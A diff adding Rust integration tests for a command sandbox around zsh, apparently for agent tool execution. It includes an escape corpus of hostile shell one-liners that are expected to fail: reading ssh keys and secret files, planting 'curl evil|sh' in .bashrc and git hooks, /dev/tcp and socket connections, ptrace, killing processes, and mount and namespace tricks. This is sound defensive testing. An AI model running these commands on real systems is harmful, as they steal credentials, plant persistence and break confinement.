@@ -1,0 +1,607 @@
+//! The sandbox, through the real zsh: an escape corpus that must fail to
+//! escape, the grants that must work, and sandboxed escalations.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::ErrorKind;
+use std::net::{TcpListener, UdpSocket};
+use std::os::linux::net::SocketAddrExt;
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+
+use execgate_escalate_server::sandbox::{parse_target, Access, NetworkPolicy, PermissionProfile};
+use execgate_escalate_server::{Decision, Execution};
+
+use super::*;
+
+/// What a sandboxed shell must never see.
+const SECRET: &str = "TOPSECRET-execgate";
+
+/// A small world: a workspace (the session's working directory), a
+/// directory beside it, a fake home with an ssh key, and outside listeners
+/// and a process to reach for. Lives under the target directory, not /tmp,
+/// which the profiles make writable.
+struct World {
+    _dir: tempfile::TempDir,
+    ws: PathBuf,
+    outside: PathBuf,
+    home: PathBuf,
+    tcp: TcpListener,
+    udp: UdpSocket,
+    abstract_listener: UnixListener,
+    abstract_name: String,
+    run_dir: PathBuf,
+    run_listener: UnixListener,
+    tmp_socket: PathBuf,
+    tmp_listener: UnixListener,
+    victim: std::process::Child,
+    /// Paths outside the workspace that an escape would create.
+    canaries: Vec<PathBuf>,
+}
+
+impl World {
+    fn new() -> World {
+        let dir = tempfile::Builder::new()
+            .prefix("sandbox-world")
+            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+            .unwrap();
+        let root = fs::canonicalize(dir.path()).unwrap();
+        let ws = root.join("ws");
+        let outside = root.join("outside");
+        let home = root.join("home");
+        for sub in [&ws, &outside, &home] {
+            fs::create_dir_all(sub).unwrap();
+        }
+        let git = std::process::Command::new("git")
+            .args(["init", "-q"])
+            .current_dir(&ws)
+            .status()
+            .unwrap();
+        assert!(git.success());
+        let files = [
+            (ws.join("secret.env"), SECRET),
+            (ws.join("sub/deep.env"), SECRET),
+            (ws.join("notes.txt"), "notes\n"),
+            (ws.join(".execgate/config.toml"), "# protected\n"),
+            (ws.join(".agents/AGENTS.md"), "# protected\n"),
+            (
+                ws.join("hello.c"),
+                "#include <stdio.h>\nint main(void){puts(\"hello\");return 0;}\n",
+            ),
+            (outside.join("target.txt"), "original\n"),
+            (home.join(".bashrc"), "# rc\n"),
+            (home.join(".ssh/id_ed25519"), SECRET),
+        ];
+        for (path, text) in files {
+            fs::create_dir_all(path.parent().unwrap()).unwrap();
+            fs::write(&path, text).unwrap();
+        }
+        let unique = format!(
+            "execgate-escape-{}-{}",
+            std::process::id(),
+            root.file_name().unwrap().to_string_lossy()
+        );
+        let run_dir = PathBuf::from("/run").join(&unique);
+        fs::create_dir_all(&run_dir).unwrap();
+        let run_listener = UnixListener::bind(run_dir.join("service.sock")).unwrap();
+        let tmp_socket = PathBuf::from("/tmp").join(format!("{unique}.sock"));
+        let tmp_listener = UnixListener::bind(&tmp_socket).unwrap();
+        let abstract_name = unique.clone();
+        let address =
+            std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
+        let abstract_listener = UnixListener::bind_addr(&address).unwrap();
+        for listener in [&run_listener, &tmp_listener, &abstract_listener] {
+            listener.set_nonblocking(true).unwrap();
+        }
+        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+        tcp.set_nonblocking(true).unwrap();
+        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+        udp.set_nonblocking(true).unwrap();
+        let victim = std::process::Command::new("sleep")
+            .arg("1000")
+            .stdin(Stdio::null())
+            .spawn()
+            .unwrap();
+        let canaries = vec![
+            PathBuf::from("/etc").join(&unique),
+            PathBuf::from("/usr/local/bin").join(&unique),
+            PathBuf::from("/root").join(&unique),
+            PathBuf::from("/var/tmp").join(&unique),
+        ];
+        World {
+            _dir: dir,
+            ws,
+            outside,
+            home,
+            tcp,
+            udp,
+            abstract_listener,
+            abstract_name,
+            run_dir,
+            run_listener,
+            tmp_socket,
+            tmp_listener,
+            victim,
+            canaries,
+        }
+    }
+
+    /// workspace-write, plus: the fake home's `.ssh` and every `*.env`
+    /// unreadable.
+    fn profile(&self) -> PermissionProfile {
+        let mut profile = PermissionProfile::preset("workspace-write").unwrap();
+        let PermissionProfile::Managed { file_system, .. } = &mut profile else {
+            unreachable!()
+        };
+        let ssh = self.home.join(".ssh");
+        file_system
+            .push(
+                parse_target(ssh.to_str().unwrap(), None).unwrap(),
+                Access::None,
+            )
+            .unwrap();
+        file_system
+            .push(parse_target("**/*.env", None).unwrap(), Access::None)
+            .unwrap();
+        profile
+    }
+
+    /// Replaces the placeholders a case's script uses.
+    fn script(&self, template: &str) -> String {
+        template
+            .replace("{outside}", self.outside.to_str().unwrap())
+            .replace("{home}", self.home.to_str().unwrap())
+            .replace("{tcp}", &self.tcp.local_addr().unwrap().port().to_string())
+            .replace("{udp}", &self.udp.local_addr().unwrap().port().to_string())
+            .replace("{abstract}", &self.abstract_name)
+            .replace(
+                "{run_sock}",
+                self.run_dir.join("service.sock").to_str().unwrap(),
+            )
+            .replace("{tmp_sock}", self.tmp_socket.to_str().unwrap())
+            .replace("{victim}", &self.victim.id().to_string())
+            .replace(
+                "{canary}",
+                self.canaries[0].file_name().unwrap().to_str().unwrap(),
+            )
+            .replace("{zsh}", zsh().to_str().unwrap())
+    }
+
+    /// Everything outside the workspace's writable part: contents, link
+    /// targets and directory listings.
+    fn protected_state(&self) -> BTreeMap<PathBuf, String> {
+        let mut state = BTreeMap::new();
+        for top in [
+            self.outside.clone(),
+            self.home.clone(),
+            self.ws.join(".git"),
+            self.ws.join(".execgate"),
+            self.ws.join(".agents"),
+        ] {
+            snapshot(&top, &mut state);
+        }
+        for name in ["secret.env", "sub/deep.env"] {
+            snapshot(&self.ws.join(name), &mut state);
+        }
+        state
+    }
+
+    /// The first trace of `what` outside the sandbox, if any: a canary
+    /// file, a connection, a datagram, a dead outside process.
+    fn nothing_reached(&mut self, what: &str) -> Result<(), String> {
+        for canary in &self.canaries {
+            if canary.exists() {
+                return Err(format!("{what}: created {}", canary.display()));
+            }
+        }
+        let nothing = |result: std::io::Result<()>| matches!(result, Err(ref error) if error.kind() == ErrorKind::WouldBlock);
+        if !nothing(self.tcp.accept().map(drop)) {
+            return Err(format!("{what}: a TCP connection arrived"));
+        }
+        let mut buf = [0u8; 64];
+        if !nothing(self.udp.recv(&mut buf).map(drop)) {
+            return Err(format!("{what}: a UDP datagram arrived"));
+        }
+        for (name, listener) in [
+            ("abstract", &self.abstract_listener),
+            ("/run", &self.run_listener),
+            ("/tmp", &self.tmp_listener),
+        ] {
+            if !nothing(listener.accept().map(drop)) {
+                return Err(format!("{what}: the {name} socket was reached"));
+            }
+        }
+        if !matches!(self.victim.try_wait(), Ok(None)) {
+            return Err(format!("{what}: the outside process was killed"));
+        }
+        Ok(())
+    }
+}
+
+impl Drop for World {
+    fn drop(&mut self) {
+        let _ = self.victim.kill();
+        let _ = self.victim.wait();
+        let _ = fs::remove_dir_all(&self.run_dir);
+        let _ = fs::remove_file(&self.tmp_socket);
+        for canary in &self.canaries {
+            let _ = fs::remove_file(canary);
+        }
+    }
+}
+
+fn snapshot(path: &Path, state: &mut BTreeMap<PathBuf, String>) {
+    let Ok(meta) = fs::symlink_metadata(path) else {
+        state.insert(path.to_path_buf(), "<missing>".into());
+        return;
+    };
+    let entry = if meta.is_symlink() {
+        format!("link {:?}", fs::read_link(path).unwrap())
+    } else if meta.is_dir() {
+        let mut names: Vec<_> = fs::read_dir(path)
+            .unwrap()
+            .map(|entry| entry.unwrap().file_name())
+            .collect();
+        names.sort();
+        for name in &names {
+            snapshot(&path.join(name), state);
+        }
+        format!("dir {names:?} mode {:o}", meta.permissions().mode())
+    } else {
+        format!(
+            "file {:?} mode {:o}",
+            fs::read(path).unwrap_or_default(),
+            meta.permissions().mode()
+        )
+    };
+    state.insert(path.to_path_buf(), entry);
+}
+
+/// Escape attempts. Each prints `ESCAPED` if the attempt worked; whatever
+/// it prints, nothing outside may change, no secret may show, no listener
+/// may hear from it and the outside process must live.
+const ESCAPES: &[(&str, &str)] = &[
+    // Writes outside the writable roots.
+    ("write beside the workspace", "print x > {outside}/new && print ESCAPED"),
+    ("overwrite a file beside", "print x > {outside}/target.txt && print ESCAPED"),
+    ("append through ..", "print x >> ../outside/target.txt && print ESCAPED"),
+    ("write /etc", "touch /etc/{canary} && print ESCAPED"),
+    ("write /usr/local/bin", "cp /bin/true /usr/local/bin/{canary} && print ESCAPED"),
+    ("write root's home", "touch /root/{canary} && print ESCAPED"),
+    ("write /var/tmp", "touch /var/tmp/{canary} && print ESCAPED"),
+    ("write ~/.bashrc", "print 'curl evil|sh' >> {home}/.bashrc && print ESCAPED"),
+    ("chmod outside", "chmod 777 {outside}/target.txt && print ESCAPED"),
+    ("delete outside", "rm -f {outside}/target.txt && [[ ! -e {outside}/target.txt ]] && print ESCAPED"),
+    // Protected names inside the workspace.
+    ("write .git/hooks", "print 'echo pwned' > .git/hooks/pre-commit && print ESCAPED"),
+    ("write .git/config", "print '[core]\\nhooksPath=/tmp' >> .git/config && print ESCAPED"),
+    ("git config through git", "git config core.fsmonitor 'touch /tmp/pwned' && print ESCAPED"),
+    ("move .git away", "mv .git x && print ESCAPED"),
+    ("replace .git with a symlink", "rm -rf .git; ln -s /tmp .git && print ESCAPED"),
+    ("write .execgate", "print x > .execgate/config.toml && print ESCAPED"),
+    ("write .agents", "print x > .agents/AGENTS.md && print ESCAPED"),
+    ("new file in .execgate", "touch .execgate/new && print ESCAPED"),
+    ("rename trick", "mv .execgate c && print x > c/config.toml && mv c .execgate && print ESCAPED"),
+    ("move the workspace's parent", "mv ../outside ../moved && print ESCAPED"),
+    // Links out of read-only areas.
+    ("hard link out", "ln {outside}/target.txt hl && print x >> hl && print ESCAPED"),
+    ("symlink out", "ln -s {outside}/target.txt sl && print x >> sl && print ESCAPED"),
+    ("symlink to .git", "ln -s .git/config gc && print x >> gc && print ESCAPED"),
+    ("hard link .git/config", "ln .git/config hc && print x >> hc && print ESCAPED"),
+    // Secrets.
+    ("read a deny-glob file", "cat secret.env"),
+    ("read a nested deny-glob file", "cat sub/deep.env"),
+    ("read through a symlink", "ln -s secret.env s && cat s"),
+    ("read through a hard link", "ln secret.env h && cat h"),
+    ("read the ssh key", "cat {home}/.ssh/id_ed25519"),
+    ("list the ssh dir", "ls -la {home}/.ssh; cat {home}/.ssh/*"),
+    ("read via /proc/self/root", "cat /proc/self/root{home}/.ssh/id_ed25519 /proc/self/root$PWD/secret.env"),
+    ("copy the secret", "cp secret.env copy.txt; cat copy.txt"),
+    ("read the outside process's environment", "cat /proc/{victim}/environ && print ESCAPED"),
+    // Network under `restricted`.
+    ("python TCP", "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {tcp}), 2)' && print ESCAPED"),
+    ("python UDP", "python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\", (\"127.0.0.1\", {udp}))' && print ESCAPED"),
+    ("bash /dev/tcp", "bash -c 'echo x > /dev/tcp/127.0.0.1/{tcp}' && print ESCAPED"),
+    ("zsh ztcp", "zmodload zsh/net/tcp && ztcp 127.0.0.1 {tcp} && print ESCAPED"),
+    ("DNS", "getent ahosts debian.org && print ESCAPED"),
+    ("IPv6 socket", "python3 -c 'import socket; socket.socket(socket.AF_INET6)' && print ESCAPED"),
+    ("netlink socket", "python3 -c 'import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)' && print ESCAPED"),
+    // Unix sockets of things outside.
+    ("abstract unix socket", "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0{abstract}\")' && print ESCAPED"),
+    ("service socket under /run", "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"{run_sock}\")' && print ESCAPED"),
+    ("socket in /tmp", "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"{tmp_sock}\")' && print ESCAPED"),
+    ("docker socket", "[[ -S /var/run/docker.sock || -S /run/docker.sock ]] && print ESCAPED"),
+    // Other processes and the kernel.
+    ("signal an outside process", "kill -TERM {victim} && print ESCAPED"),
+    ("kill every process", "kill -KILL -1; print done"),
+    ("ptrace an outside process", "python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).ptrace(16, {victim}, 0, 0) != 0)' && print ESCAPED"),
+    ("ptrace a child", "python3 -c 'import ctypes,os,sys; p=os.fork() or os._exit(0); sys.exit(ctypes.CDLL(None, use_errno=True).ptrace(16, p, 0, 0) != 0)' && print ESCAPED"),
+    ("io_uring", "python3 -c 'import ctypes,sys; p=ctypes.create_string_buffer(120); sys.exit(ctypes.CDLL(None).syscall(425, 4, p) < 0)' && print ESCAPED"),
+    ("capabilities", "grep -E '^Cap(Inh|Prm|Eff|Amb):' /proc/self/status | grep -v '0000000000000000$' && print ESCAPED"),
+    ("no-new-privs", "grep -q '^NoNewPrivs:.*1' /proc/self/status || print ESCAPED"),
+    ("mount", "mount -t tmpfs none {outside} && print x > {outside}/target.txt && print ESCAPED"),
+    ("new user namespace", "unshare -Ur sh -c 'mount --bind /tmp {outside}' && print ESCAPED"),
+];
+
+/// What an escape attempt left behind, if anything.
+fn traces_of_escape(
+    world: &mut World,
+    what: &str,
+    output: &ShellOutput,
+    before: &BTreeMap<PathBuf, String>,
+) -> Vec<String> {
+    let mut traces = Vec::new();
+    let seen = format!("{}{}", output.stdout, output.stderr);
+    if seen.contains("ESCAPED") {
+        traces.push(format!("{what}: {seen}"));
+    }
+    if seen.contains(SECRET) {
+        traces.push(format!("{what}: the secret showed: {seen}"));
+    }
+    if seen.contains("cannot enforce the sandbox") {
+        traces.push(format!("{what}: the sandbox did not start: {seen}"));
+    }
+    if let Err(trace) = world.nothing_reached(what) {
+        traces.push(trace);
+    }
+    let after = world.protected_state();
+    for (path, state) in before {
+        if after.get(path) != Some(state) {
+            traces.push(format!("{what}: {} changed", path.display()));
+        }
+    }
+    for path in after.keys().filter(|path| !before.contains_key(*path)) {
+        traces.push(format!("{what}: {} appeared", path.display()));
+    }
+    traces
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_escape_corpus_fails_to_escape() {
+    let mut world = World::new();
+    let before = world.protected_state();
+    let mut escapes = Vec::new();
+    for (what, template) in ESCAPES {
+        let script = world.script(template);
+        let (output, recorder) =
+            run_sandboxed(policy_by_path(&[]), world.profile(), &script, &world.ws).await;
+        assert!(
+            recorder.refusals().is_empty(),
+            "{what}: {:?}",
+            recorder.refusals()
+        );
+        escapes.extend(traces_of_escape(&mut world, what, &output, &before));
+    }
+    assert!(ESCAPES.len() >= 40);
+    assert!(escapes.is_empty(), "escapes:\n{}", escapes.join("\n"));
+}
+
+/// The corpus can fail: without the sandbox, each of these attempts (the
+/// ones harmless to run on the host) is caught.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_corpus_catches_escapes_when_there_is_no_sandbox() {
+    let harmless = [
+        "write beside the workspace",
+        "append through ..",
+        "write ~/.bashrc",
+        "write .git/hooks",
+        "move .git away",
+        "write .execgate",
+        "hard link out",
+        "symlink out",
+        "read a deny-glob file",
+        "read the ssh key",
+        "read via /proc/self/root",
+        "python TCP",
+        "python UDP",
+        "abstract unix socket",
+        "service socket under /run",
+        "socket in /tmp",
+        "read the outside process's environment",
+    ];
+    for what in harmless {
+        let mut world = World::new();
+        let before = world.protected_state();
+        let template = ESCAPES.iter().find(|(name, _)| *name == what).unwrap().1;
+        let (output, _) = run(policy_by_path(&[]), &world.script(template), &world.ws).await;
+        let traces = traces_of_escape(&mut world, what, &output, &before);
+        assert!(
+            !traces.is_empty(),
+            "{what}: an escape went unnoticed: {}",
+            output.stderr
+        );
+    }
+}
+
+/// What the profile grants must work.
+const GRANTED: &[(&str, &str, &str)] = &[
+    ("write in the workspace", "print hi > file && cat file", "hi\n"),
+    ("read outside the workspace", "cat {outside}/target.txt", "original\n"),
+    ("pipes", "seq 100 | grep -c .", "100\n"),
+    ("/dev/null", "print x > /dev/null && print ok", "ok\n"),
+    ("temp files", "f=$(mktemp) && print t > $f && cat $f && rm $f", "t\n"),
+    ("compile and run C", "gcc -o hello hello.c && ./hello", "hello\n"),
+    ("git status", "git status --short --untracked-files=no && print clean", "clean\n"),
+    ("a new repository", "git init -q r && git -C r rev-parse --is-inside-work-tree", "true\n"),
+    ("background jobs", "sleep 0.1 & wait; print waited", "waited\n"),
+    ("unix socketpair", "python3 -c 'import socket; a,b=socket.socketpair(); a.send(b\"ok\"); print(b.recv(2).decode())'", "ok\n"),
+    ("a non-secret file", "cat notes.txt", "notes\n"),
+    ("nested patched shell", "{zsh} -fc '/bin/echo nested'", "nested\n"),
+];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_the_profile_grants_works() {
+    let world = World::new();
+    for (what, template, expected) in GRANTED {
+        let script = world.script(template);
+        let (output, _) =
+            run_sandboxed(policy_by_path(&[]), world.profile(), &script, &world.ws).await;
+        assert_eq!(output.stdout, *expected, "{what}: {}", output.stderr);
+        assert_eq!(output.code(), Some(0), "{what}: {}", output.stderr);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn turn_default_escalations_run_in_the_sessions_sandbox() {
+    let world = World::new();
+    let policy = policy_by_path(&[
+        ("/usr/bin/touch", Decision::Escalate(Execution::TurnDefault)),
+        ("/usr/bin/cat", Decision::Escalate(Execution::TurnDefault)),
+    ]);
+    let script = world.script(
+        "touch inside; print in=$?; touch {outside}/escalated; print out=$?; cat secret.env",
+    );
+    let (output, recorder) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
+    assert_eq!(output.stdout, "in=0\nout=1\n", "{}", output.stderr);
+    assert!(world.ws.join("inside").exists());
+    assert!(!world.outside.join("escalated").exists());
+    assert_eq!(recorder.started_pids().len(), 3, "the server started them");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn permissions_escalations_get_exactly_the_extra_grants() {
+    let world = World::new();
+    let granted = world.outside.join("granted");
+    fs::create_dir(&granted).unwrap();
+    let mut extra = execgate_escalate_server::sandbox::FileSystemPolicy::default();
+    extra
+        .push(
+            parse_target(granted.to_str().unwrap(), None).unwrap(),
+            Access::Write,
+        )
+        .unwrap();
+    let extra = PermissionProfile::Managed {
+        file_system: extra,
+        network: NetworkPolicy::Restricted,
+    };
+    let policy = policy_by_path(&[(
+        "/usr/bin/touch",
+        Decision::Escalate(Execution::Permissions(extra)),
+    )]);
+    let script = world.script(
+        "touch {outside}/granted/ok; print granted=$?; touch {outside}/other; print other=$?",
+    );
+    let (output, _) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
+    assert_eq!(output.stdout, "granted=0\nother=1\n", "{}", output.stderr);
+    assert!(granted.join("ok").exists());
+    assert!(!world.outside.join("other").exists());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn unsandboxed_escalations_leave_the_sandbox() {
+    let world = World::new();
+    let policy = policy_by_path(&[("/usr/bin/touch", escalate())]);
+    let script = world.script("touch {outside}/escalated; print status=$?");
+    let (output, _) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
+    assert_eq!(output.stdout, "status=0\n", "{}", output.stderr);
+    assert!(world.outside.join("escalated").exists());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn cancelling_kills_sandboxed_escalations_and_what_they_started() {
+    let world = World::new();
+    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
+    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
+    // setsid leaves the process group; the pid namespace still holds it.
+    let _shell = spawn_session_shell(
+        &mut session,
+        "sh -c 'setsid sleep 1000 & sleep 1000'",
+        &world.ws,
+    );
+    let pids = recorder.wait_for_started(1).await;
+    let sleepers = |root: i32| -> Vec<i32> {
+        let mut found = Vec::new();
+        let mut queue = vec![root];
+        while let Some(pid) = queue.pop() {
+            let children =
+                fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
+            for child in children.split_whitespace().filter_map(|c| c.parse().ok()) {
+                found.push(child);
+                queue.push(child);
+            }
+        }
+        found
+    };
+    let mut descendants = Vec::new();
+    for _ in 0..200 {
+        descendants = sleepers(pids[0]);
+        let sleeping = descendants
+            .iter()
+            .filter(|pid| {
+                fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|c| c.trim() == "sleep")
+            })
+            .count();
+        if sleeping == 2 {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    assert!(!descendants.is_empty());
+    session.shutdown().await;
+    for _ in 0..100 {
+        if descendants.iter().all(|pid| !process_exists(*pid)) {
+            return;
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    panic!("sandboxed processes survived the session: {descendants:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_cannot_be_enforced_does_not_run() {
+    use execgate_escalate_server::sandbox::{Launcher, SandboxContext, GLOB_MAX_MATCHES};
+    use execgate_escalate_server::{SessionSandbox, StartError};
+
+    let error = Launcher::with_bwrap("/nonexistent/bwrap", sandbox_helper()).unwrap_err();
+    assert!(error.to_string().contains("/nonexistent/bwrap"), "{error}");
+
+    // A deny glob that matches more than the cap: the session refuses to
+    // start rather than leave some matches readable.
+    let world = World::new();
+    for i in 0..=GLOB_MAX_MATCHES {
+        fs::write(world.ws.join(format!("k{i}.key")), "").unwrap();
+    }
+    let mut profile = world.profile();
+    let PermissionProfile::Managed { file_system, .. } = &mut profile else {
+        unreachable!()
+    };
+    file_system
+        .push(parse_target("*.key", None).unwrap(), Access::None)
+        .unwrap();
+    let mut config = SessionConfig::new(wrapper(), policy_by_path(&[]));
+    config.sandbox = Some(SessionSandbox {
+        launcher: Launcher::new(sandbox_helper()).unwrap(),
+        turn_default: profile.clone(),
+        context: SandboxContext::new(&world.ws),
+    });
+    let error = Session::start(config)
+        .err()
+        .expect("the session must not start");
+    assert!(matches!(error, StartError::Sandbox(_)), "{error}");
+    assert!(
+        error.to_string().contains("deny globs cannot be enforced"),
+        "{error}"
+    );
+
+    // The same grants asked for by one escalation: denied, nothing runs.
+    let policy = policy_by_path(&[(
+        "/usr/bin/touch",
+        Decision::Escalate(Execution::Permissions(profile)),
+    )]);
+    let (output, _) = run_sandboxed(
+        policy,
+        world.profile(),
+        "touch marker; print status=$?",
+        &world.ws,
+    )
+    .await;
+    assert_eq!(output.stdout, "status=126\n", "{}", output.stderr);
+    assert!(
+        output.stderr.contains("deny globs cannot be enforced"),
+        "{}",
+        output.stderr
+    );
+    assert!(!world.ws.join("marker").exists());
+}
